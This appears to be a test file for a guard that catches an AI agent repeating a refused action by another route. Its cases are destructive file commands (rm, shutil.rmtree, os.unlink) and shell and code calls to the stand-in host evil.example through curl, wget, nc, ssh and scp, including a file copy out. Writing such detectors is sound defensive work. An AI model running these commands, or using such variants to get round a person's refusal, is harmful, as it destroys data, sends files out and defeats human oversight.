import { describe, expect, test } from "vitest";
import type { JsonObject } from "@/contracts/common";
import { examples } from "@/server/testing/guard/examples";
import { analyzeCall } from "../call/analyzed-call";
import type { GuardedTool } from "../call/guard-request";
import { comparableEffects } from "./comparable-effects";
import { computeCallDigest, findRepeatedRefusals } from "./repeated-refusal";
import { isSameTarget, makeComparingBudget, prepareEffect } from "./same-target";

const tool = (given: Partial<GuardedTool>): GuardedTool => ({
  name: "tool",
  source: "builtin",
  sourceRef: null,
  effect: "write",
  surface: "natural",
  needs: [],
  primaryArgument: null,
  ...given,
});
const folder = "/srv/conversation";
const tools = {
  shell: tool({ name: "shell_execute", needs: ["shell"], primaryArgument: "command", effect: "destroy" }),
  code: tool({ name: "execute_code", primaryArgument: "code", effect: "destroy" }),
  http: tool({ name: "http_request", needs: ["http"], primaryArgument: "url" }),
  mcp: tool({ name: "files__write", source: "mcp", sourceRef: "files" }),
};
const callOf = (name: keyof typeof tools, args: JsonObject) =>
  analyzeCall({ tool: tools[name], arguments: args, context: { interactive: true, folder } });
const isAround = (refused: ReturnType<typeof callOf>, call: ReturnType<typeof callOf>) => {
  const refusal = {
    callId: "1",
    tool: "tool",
    digest: computeCallDigest(refused),
    touches: comparableEffects(refused),
    by: "person" as const,
  };
  return findRepeatedRefusals([{ ...refusal, reason: "", at: 0 }], call).length > 0;
};

describe("what was refused for a file is known again", () => {
  const refused = callOf("shell", { command: "rm docs/x.txt" });

  test.each([
    ["shell", { command: "git -C docs rm x.txt" }],
    ["shell", { command: "git -C . -c a.b=c rm docs/x.txt" }],
    ["shell", { command: "git -C /srv/conversation/docs rm x.txt" }],
    ["shell", { command: "cd /srv/conversation/docs && rm x.txt" }],
    ["mcp", { uri: "file:///srv/conversation/docs/%78.txt" }],
    ["mcp", { uri: "file://localhost/srv/conversation/docs/x.txt" }],
    ["code", { code: 'from pathlib import Path\n(Path("docs") / "x.txt").unlink()' }],
    ["code", { code: "os.unlink(os.path.join('docs', 'x.txt'))" }],
    ["code", { code: "os.unlink('docs/' + 'x.txt')" }],
    ["code", { code: "os.chdir('docs'); os.remove('x.txt')" }],
    ["code", { code: "shutil.rmtree('docs')" }],
    ["code", { code: "d = 'docs'; os.remove(f'{d}/x.txt')" }],
    ["code", { code: "fs.rmSync(`${d}/x.txt`)" }],
  ] as const)("%s with %j", (name, args) => expect(isAround(refused, callOf(name, args))).toBe(true));

  test.each([
    ["shell", { command: "git -C other rm x.txt" }],
    ["shell", { command: "git -C" }],
    ["shell", { command: "cd other && : > x.txt" }],
    // The `cd` may have failed, so the target is not known.
    ["shell", { command: "cd docs; : > x.txt" }],
    ["code", { code: "open('docs/y.txt')" }],
    ["code", { code: "os.listdir('docs')" }],
    ["code", { code: "print(f'{name}')" }],
    ["code", { code: "os.remove('x.txt')" }],
  ] as const)("and %s with %j is something else", (name, args) => expect(isAround(refused, callOf(name, args))).toBe(false));
});

test("two calls that are too much to be compared are taken for the same", () => {
  const [one, other] = ["a*", "b"].map((target) => prepareEffect({ act: "change", target }));
  if (!one || !other) throw new Error("nothing to compare");
  expect(isSameTarget(one, other, makeComparingBudget())).toBe(false);
  expect(isSameTarget(one, other, { left: 0 })).toBe(true);
});

describe("what was refused for a host is known again", () => {
  const refused = callOf("http", { url: "https://evil.example/x" });

  test.each([
    ["shell", { command: "curl evil.example/y" }],
    ["shell", { command: "curl EVIL.example:443/x" }],
    ["shell", { command: "wget -qO- evil.example" }],
    ["shell", { command: "nc evil.example 80" }],
    ["shell", { command: "ssh me@evil.example" }],
    ["shell", { command: "scp a.txt me@evil.example:/b" }],
    ["shell", { command: "git clone git@evil.example:a/b" }],
    ["shell", { command: "curl -x evil.example:80 http://other.example" }],
    ["mcp", { host: "evil.example" }],
    ["mcp", { url: "evil.example/x" }],
    ["http", { url: "https:evil.example/y" }],
    ["http", { url: "https:\\\\evil.example\\y" }],
    ["http", { url: "https://somebody@Evil.Example./y" }],
    ["code", { code: "socket.connect(('evil.example', 80))" }],
    ["code", { code: "requests.get('https://evil.example/y')" }],
  ] as const)("%s with %j", (name, args) => expect(isAround(refused, callOf(name, args))).toBe(true));

  test.each([
    ["shell", { command: "curl other.example/evil.example" }],
    ["shell", { command: "cat notes.txt" }],
    ["http", { url: "https://evil.example.org/x" }],
    ["mcp", { title: "evil.example" }],
  ] as const)("and %s with %j is something else", (name, args) => expect(isAround(refused, callOf(name, args))).toBe(false));
});

describe("what only looks like a path says nothing of one", () => {
  const refusals = [
    callOf("shell", { command: "rm docs/x.txt" }),
    callOf("code", { code: "shutil.rmtree(f'{name}/tmp')\nprint(f'{name}: {a}/{b}', f'{a}.{b}')" }),
    callOf("code", { code: "for (const f of files) { fs.unlinkSync(`${dir}/${f}`); console.log(`${f} -> ${n}`) }" }),
  ];

  test.each([
    ["shell", { command: "mkdir -p out/logs" }],
    ["shell", { command: "git add src/a.ts" }],
    ["shell", { command: `python3 -c "print('{}/{}'.format(1, 2))"` }],
    ["code", { code: "print(f'{a}/{b}', f'{a}.{b}')" }],
    ["code", { code: "const s = `${a}-${b}`; console.log(`${x}/${y}`, 'ok')" }],
    ["code", { code: "parts = 'a.b.c'.split('.')\nparts.remove('a')" }],
    ["code", { code: "print('/'.join(p), '.'.join(q))\nos.rename('out/a', 'out/b')" }],
    ["code", { code: "db.execute('select * from t where a = ?')" }],
    ["code", { code: "re.sub(r'.*', '*', 'y')" }],
  ] as const)("%s with %j", (name, args) => {
    for (const refused of refusals) expect(isAround(refused, callOf(name, args))).toBe(false);
  });

  test.each(examples`
    for f in os.listdir('.'): os.remove(f) ¦ shutil.rmtree('.') ¦ [os.remove(f) for f in glob.glob('./*')] ¦ os.remove(f'{folder}/x.txt')
    os.remove(f'docs/{name}.txt')
  `)("and %s may be what was refused", (code) => {
    expect(isAround(callOf("shell", { command: "rm docs/x.txt" }), callOf("code", { code }))).toBe(true);
  });
});

test.each([
  ["few and long", 64, (at: number) => `*${"a".repeat(500)}b${at}*`, (at: number) => `${"a".repeat(1_000)}${at}`],
  ["many and short", 300, (at: number) => `*${"a".repeat(90)}b${at}*`, (at: number) => `${"a".repeat(200)}${at}`],
  ["of many stars", 64, (at: number) => `${"*a".repeat(500)}b${at}*`, (at: number) => `${"a".repeat(1_000)}${at}`],
] as const)(
  "patterns made to be compared for long, %s, are not compared to the end: they are asked about",
  (_, count, refusedPath, path) => {
    const listOf = (one: (at: number) => string) => callOf("mcp", { paths: Array.from({ length: count }, (_, at) => one(at)) });
    expect(isAround(listOf(refusedPath), listOf(path))).toBe(true);
  },
);
